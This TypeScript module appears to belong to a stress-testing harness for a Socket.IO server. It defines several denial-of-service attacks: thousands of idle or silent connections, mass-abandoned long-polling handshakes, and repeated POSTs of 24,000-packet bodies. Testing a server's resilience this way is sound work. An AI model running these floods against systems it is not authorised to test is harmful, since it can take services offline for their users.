import { once } from 'node:events';
import type { Attack } from '../attack.ts';
import { createRoomFrom } from '../create-room-from.ts';
import { again, atRate, together } from '../pace.ts';
import { openTcp, Pipeline, request } from '../raw-http.ts';
import { RawSocket } from '../raw-socket.ts';

export const silent: Attack = {
  what: '5,000 connections of one address that never enter',
  async run(target) {
    await together(5_000, async () => {
      const socket = await RawSocket.open(target);
      await socket.closed;
    });
  },
};

export const mute: Attack = {
  what: '5,000 connections of one address on which nothing is ever sent',
  async run(target) {
    await together(5_000, async () => {
      const socket = openTcp(target);
      const closed = new Promise((resolve) => socket.once('close', resolve));
      await once(socket, 'connect');
      target.tally.add('connections');
      socket.resume();
      await closed;
      target.tally.add('closed');
    });
  },
};

const HANDSHAKE = '/socket.io/?EIO=4&transport=polling';

export const halfOpen: Attack = {
  what: '10,000 long-polling sessions that are begun and left, a thousand a second',
  async run(target) {
    const pipeline = new Pipeline(target);
    await atRate(1_000, () => pipeline.send('GET', HANDSHAKE));
  },
};

const PACKETS = 24_000;

export const polling: Attack = {
  what: 'long-polling with 24,000 packets in a body',
  async run(target) {
    const room = await createRoomFrom(target);
    const packets = Array.from({ length: PACKETS }, (_, index) => `42["emit",[${index + 1},{}]]`).join('\u{1e}');
    const headers = { 'content-type': 'text/plain;charset=UTF-8' };
    await again(async () => {
      const { body } = await request(target, { path: `${HANDSHAKE}&room=${room}` });
      const [, sid] = /"sid":"([^"]+)"/.exec(body) ?? [];
      if (sid === undefined) throw new Error('rejected');
      const post = (body: string) =>
        request(target, { path: `${HANDSHAKE}&sid=${sid}`, method: 'POST', headers, body });
      await post('40');
      for (let status = 200; status === 200;) {
        ({ status } = await post(packets));
        target.tally.add(`bodies, ${status}`);
      }
    });
  },
};
